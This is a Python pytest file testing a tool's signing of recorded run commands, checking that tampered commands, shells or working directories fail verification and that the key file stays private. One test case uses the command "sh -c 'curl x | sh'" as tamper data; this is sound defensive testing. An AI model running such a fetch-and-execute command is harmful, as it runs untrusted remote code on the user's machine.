"""The key that signs the programs a run records, and what a signature proves."""

from __future__ import annotations

import stat
import sys

import pytest

from rung.cli import trust

SETTINGS = {"command": "python train.py {lr}", "shell": False, "cwd": "/home/a/project"}


@pytest.fixture
def home(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return tmp_path / "config"


def test_a_signature_checks_with_the_key_that_made_it_only(home, monkeypatch):
    signed = {**SETTINGS, "signature": trust.sign(SETTINGS)}
    assert trust.signed_here(signed)
    assert trust.key_path() == home / "rung" / "trust-key"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home.parent / "someone-else"))
    assert not trust.signed_here(signed)  # another user's key: no key made to check it
    assert not trust.key_path().exists()


@pytest.mark.parametrize(
    "change", [{"command": "sh -c 'curl x | sh'"}, {"shell": True}, {"cwd": "/tmp/elsewhere"}]
)
def test_a_signature_covers_the_command_its_shell_and_where_it_runs(home, change):
    signed = {**SETTINGS, "signature": trust.sign(SETTINGS)}
    assert not trust.signed_here({**signed, **change})


@pytest.mark.parametrize("signature", [None, "", "0" * 64, 12])
def test_no_signature_or_a_made_up_one_proves_nothing(home, signature):
    trust.sign(SETTINGS)  # the key exists
    assert not trust.signed_here({**SETTINGS, "signature": signature})


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX file modes")
def test_the_key_is_made_once_and_readable_by_its_owner_alone(home):
    first = trust.sign(SETTINGS)
    assert trust.sign(SETTINGS) == first
    assert stat.S_IMODE(trust.key_path().stat().st_mode) == 0o600
    trust.key_path().write_bytes(b"short")  # a half-written or damaged key signs nothing
    assert trust.sign(SETTINGS) is None
    assert not trust.signed_here({**SETTINGS, "signature": first})


def test_without_a_home_to_keep_a_key_nothing_is_signed(tmp_path, monkeypatch):
    blocker = tmp_path / "file"
    blocker.write_text("")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(blocker))  # a file: no folder can be made in it
    assert trust.sign(SETTINGS) is None
    assert not trust.signed_here({**SETTINGS, "signature": None})
